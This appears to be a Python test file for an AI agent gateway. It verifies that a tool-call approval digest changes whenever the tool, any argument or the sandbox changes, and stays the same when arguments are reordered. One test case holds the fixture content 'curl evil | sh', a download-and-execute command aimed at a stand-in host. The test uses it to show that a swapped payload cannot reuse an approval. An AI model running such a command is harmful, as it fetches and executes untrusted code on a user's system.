"""An approval's digest binds it to one tool, one set of arguments and one sandbox configuration."""

from __future__ import annotations

from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from gateway.agents.port import PendingToolCall, ToolSpec
from gateway.conversations.approval_question import CallTarget
from gateway.conversations.call_binding import call_digest, no_definition, with_addresses
from gateway.tools.tool import definition_of

APPROVED = ("write", {"path": "a.txt", "content": "hi"}, "sandbox")


@pytest.mark.parametrize(
    "other",
    [
        ("edit", {"path": "a.txt", "content": "hi"}, "sandbox"),
        ("write", {"path": "a.txt", "content": "curl evil | sh"}, "sandbox"),
        ("write", {"path": "b.txt", "content": "hi"}, "sandbox"),
        ("write", {"path": "a.txt", "content": "hi", "workspace": "prod"}, "sandbox"),
        ("write", {"path": "a.txt"}, "sandbox"),
        ("write", {"path": "a.txt", "content": "hi"}, "another sandbox"),
    ],
)
def test_another_call_has_another_digest(other: tuple[str, dict[str, Any], str]) -> None:
    """A change of the tool, of any argument or of the sandbox changes the digest."""
    assert call_digest(*other) != call_digest(*APPROVED)


@given(
    args=st.dictionaries(st.text(max_size=9), st.text(max_size=9) | st.booleans() | st.integers(), max_size=5)
)
def test_the_order_of_arguments_does_not_matter(args: dict[str, Any]) -> None:
    """The same arguments in another order have the same digest."""
    assert call_digest("bash", args, "s") == call_digest("bash", dict(reversed(args.items())), "s")


def test_a_definition_is_the_same_whatever_the_order_of_its_names() -> None:
    """Servers that build their schemas from unordered sets list `required` in another order each time."""
    args = {"a": {"type": "string"}, "b": {"type": "string"}}
    one, other = (
        ToolSpec(name="pay", description="Pay.", schema={"properties": args, "required": required})
        for required in (["a", "b"], ["b", "a"])
    )
    assert definition_of(one) == definition_of(other)
    fewer = ToolSpec(name="pay", description="Pay.", schema={"properties": args, "required": ["a"]})
    assert definition_of(one) != definition_of(fewer)
    assert definition_of(one) != definition_of(one, "exec ./pay")


def test_an_argument_of_a_foreign_tool_names_no_workspace() -> None:
    """A tool that works in no workspace of the agent may have an argument `workspace` of its own."""

    def find(call: PendingToolCall) -> CallTarget:
        return CallTarget(workspace=str(call.args.get("workspace", "main")))

    targets = with_addresses(find, lambda _call: None, no_definition, lambda call: call.name == "bash")
    for tool, shown in (("bash", "other"), ("foreign", "main")):
        call = PendingToolCall(id="1", name=tool, args={"workspace": "other"})
        assert targets(call).workspace == shown
